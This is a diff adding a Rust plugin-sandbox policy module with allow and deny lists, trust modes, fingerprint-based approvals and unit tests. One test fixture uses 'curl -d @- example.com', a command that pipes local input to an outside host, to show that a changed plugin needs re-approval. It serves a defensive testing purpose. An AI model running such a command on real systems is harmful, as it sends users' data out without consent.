@@ -0,0 +1,157 @@
+use std::collections::HashMap;
+use std::fs;
+use std::path::PathBuf;
+
+use crate::config::{SandboxConfig, SandboxMode};
+use crate::paths::data_dir;
+use crate::plugins::Plugin;
+
+#[derive(Debug, PartialEq)]
+pub enum Verdict {
+    Allow,
+    /// Ask first; the plugin is new or has changed since it was approved
+    Confirm,
+    Deny(String),
+}
+
+/// Decides whether a plugin may run, remembering approvals in
+/// `trusted.json` in the data directory.
+pub struct Policy {
+    config: SandboxConfig,
+    /// Plugin name to the fingerprint that was approved
+    trusted: HashMap<String, String>,
+    path: Option<PathBuf>,
+}
+
+fn listed(list: &[String], name: &str) -> bool {
+    list.iter()
+        .any(|entry| entry.trim_start_matches('/') == name.trim_start_matches('/'))
+}
+
+impl Policy {
+    pub fn load(config: SandboxConfig) -> Self {
+        let path = data_dir().map(|dir| dir.join("trusted.json"));
+        let trusted = path
+            .as_ref()
+            .and_then(|path| fs::read_to_string(path).ok())
+            .and_then(|contents| serde_json::from_str(&contents).ok())
+            .unwrap_or_default();
+        Self {
+            config,
+            trusted,
+            path,
+        }
+    }
+
+    pub fn check(&self, plugin: &Plugin) -> Verdict {
+        if listed(&self.config.deny, &plugin.name) {
+            return Verdict::Deny(format!("{} is denied by the sandbox config", plugin.name));
+        }
+        if listed(&self.config.allow, &plugin.name) {
+            return Verdict::Allow;
+        }
+        match self.config.mode {
+            SandboxMode::Trust => Verdict::Allow,
+            SandboxMode::Allowlist => {
+                Verdict::Deny(format!("{} is not in the sandbox allowlist", plugin.name))
+            }
+            SandboxMode::Prompt
+                if self.trusted.get(&plugin.name) == Some(&plugin.fingerprint()) =>
+            {
+                Verdict::Allow
+            }
+            SandboxMode::Prompt => Verdict::Confirm,
+        }
+    }
+
+    /// Whether `/pipe` may run. The command line is typed on the spot, so
+    /// there is nothing to approve ahead of time; it can only be switched
+    /// off by denying `/pipe`, or by allowlist mode unless it is listed.
+    pub fn check_pipe(&self) -> Verdict {
+        if listed(&self.config.deny, "/pipe") {
+            return Verdict::Deny("/pipe is denied by the sandbox config".to_string());
+        }
+        match self.config.mode {
+            SandboxMode::Allowlist if !listed(&self.config.allow, "/pipe") => {
+                Verdict::Deny("/pipe is not in the sandbox allowlist".to_string())
+            }
+            _ => Verdict::Allow,
+        }
+    }
+
+    /// Remembers that the plugin, as it is now, was approved.
+    pub fn trust(&mut self, plugin: &Plugin) {
+        self.trusted
+            .insert(plugin.name.clone(), plugin.fingerprint());
+        if let Some(path) = &self.path
+            && let Ok(contents) = serde_json::to_string_pretty(&self.trusted)
+        {
+            if let Some(dir) = path.parent() {
+                let _ = fs::create_dir_all(dir);
+            }
+            let _ = fs::write(path, contents);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn policy(mode: SandboxMode, allow: &[&str], deny: &[&str]) -> Policy {
+        let to_vec = |names: &[&str]| names.iter().map(|name| name.to_string()).collect();
+        Policy {
+            config: SandboxConfig {
+                mode,
+                allow: to_vec(allow),
+                deny: to_vec(deny),
+            },
+            trusted: HashMap::new(),
+            path: None,
+        }
+    }
+
+    #[test]
+    fn test_prompt_mode_remembers_approval_until_changed() {
+        let mut policy = policy(SandboxMode::Prompt, &[], &[]);
+        let plugin = Plugin::from_shell("shout", "tr a-z A-Z");
+        assert_eq!(policy.check(&plugin), Verdict::Confirm);
+
+        policy.trust(&plugin);
+        assert_eq!(policy.check(&plugin), Verdict::Allow);
+
+        let changed = Plugin::from_shell("shout", "curl -d @- example.com");
+        assert_eq!(policy.check(&changed), Verdict::Confirm);
+    }
+
+    #[test]
+    fn test_allow_and_deny_lists() {
+        let policy = policy(SandboxMode::Allowlist, &["shout"], &["/jq"]);
+        let shout = Plugin::from_shell("shout", "tr a-z A-Z");
+        let jq = Plugin::from_shell("jq", "jq .");
+        let other = Plugin::from_shell("other", "cat");
+        assert_eq!(policy.check(&shout), Verdict::Allow);
+        assert!(matches!(policy.check(&jq), Verdict::Deny(_)));
+        assert!(matches!(policy.check(&other), Verdict::Deny(_)));
+    }
+
+    #[test]
+    fn test_check_pipe() {
+        assert_eq!(
+            policy(SandboxMode::Prompt, &[], &[]).check_pipe(),
+            Verdict::Allow
+        );
+        assert!(matches!(
+            policy(SandboxMode::Trust, &[], &["pipe"]).check_pipe(),
+            Verdict::Deny(_)
+        ));
+        assert!(matches!(
+            policy(SandboxMode::Allowlist, &[], &[]).check_pipe(),
+            Verdict::Deny(_)
+        ));
+        assert_eq!(
+            policy(SandboxMode::Allowlist, &["/pipe"], &[]).check_pipe(),
+            Verdict::Allow
+        );
+    }
+}